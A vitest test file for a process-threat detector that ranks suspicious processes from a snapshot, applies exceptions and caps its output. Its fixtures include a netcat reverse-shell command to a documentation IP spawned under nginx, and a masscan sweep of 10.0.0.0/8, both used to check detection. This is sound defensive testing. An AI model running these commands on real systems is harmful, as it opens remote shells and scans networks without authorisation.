// A snapshot of processes becomes the threats present now, worst first, and counts for every tier and category.
import { expect, test } from 'vitest';
import type { ProcessFacts } from '../../../../../core/contracts/processes.ts';
import { threat } from '../../../../../core/contracts/threats.ts';
import { threatsOf } from '../../../../../detectors/process/threats/verdict/snapshot.ts';

const shell: ProcessFacts = {
  pid: 20,
  ppid: 10,
  argv: ['sh', '-c', 'nc -e /bin/sh 203.0.113.9 1'],
  exe: '/bin/sh',
  exeSha256: 'a'.repeat(64),
  container: null,
};
const server: ProcessFacts = {
  pid: 10,
  ppid: 1,
  argv: ['nginx'],
  exe: '/usr/sbin/nginx',
  comm: 'nginx',
  container: null,
};
const scan: ProcessFacts = { pid: 30, argv: ['masscan', '-p80', '10.0.0.0/8'] };

const count = (counts: readonly { tier: string; category: string; count: number }[], tier: string, category: string) =>
  counts.find((row) => row.tier === tier && row.category === category)?.count;

test('an ordinary machine has no threats, and says so with zeros', () => {
  const { threats, counts, omitted } = threatsOf([server], [], 0);
  expect(threats).toEqual([]);
  expect(omitted).toBe(0);
  expect(counts).toHaveLength(21);
  expect(counts.every((row) => row.count === 0)).toBe(true);
});

test('threats are found with their parents, the worst first, in the shape of the contract', () => {
  const { threats, counts } = threatsOf([scan, shell, server], [], 0);
  expect(threats.map(({ pid, tier }) => [pid, tier])).toEqual([
    [20, 'critical'],
    [30, 'medium'],
  ]);
  expect(threats.every((one) => threat.safeParse(one).success)).toBe(true);
  expect(threats[0]?.reasons.join(' ')).toContain('web server or database started a shell');
  expect(count(counts, 'critical', 'reverse_shells')).toBe(1);
  expect(count(counts, 'medium', 'suspicious_network')).toBe(1);
});

test('an allowed process is listed with its exception and not counted', () => {
  const exception = {
    id: 'e1',
    exeSha256: 'a'.repeat(64),
    argv: shell.argv,
    parentExe: '/usr/sbin/nginx',
    container: null,
    expiresAtSeconds: 100,
    reason: 'drill',
    owner: 'ops',
  };
  const allowed = threatsOf([shell, server], [exception], 99);
  expect(allowed.threats[0]?.allowedBy).toBe('e1');
  expect(count(allowed.counts, 'critical', 'reverse_shells')).toBe(0);
  expect(count(threatsOf([shell, server], [exception], 100).counts, 'critical', 'reverse_shells')).toBe(1);
});

test('the list is bounded and says what it left out', () => {
  const many = Array.from({ length: 1_200 }, (_, at): ProcessFacts => ({ ...scan, pid: at + 1 }));
  const { threats, omitted, counts } = threatsOf(many, [], 0);
  expect(threats).toHaveLength(1_000);
  expect(omitted).toBe(200);
  expect(count(counts, 'medium', 'suspicious_network')).toBe(1_200);
});
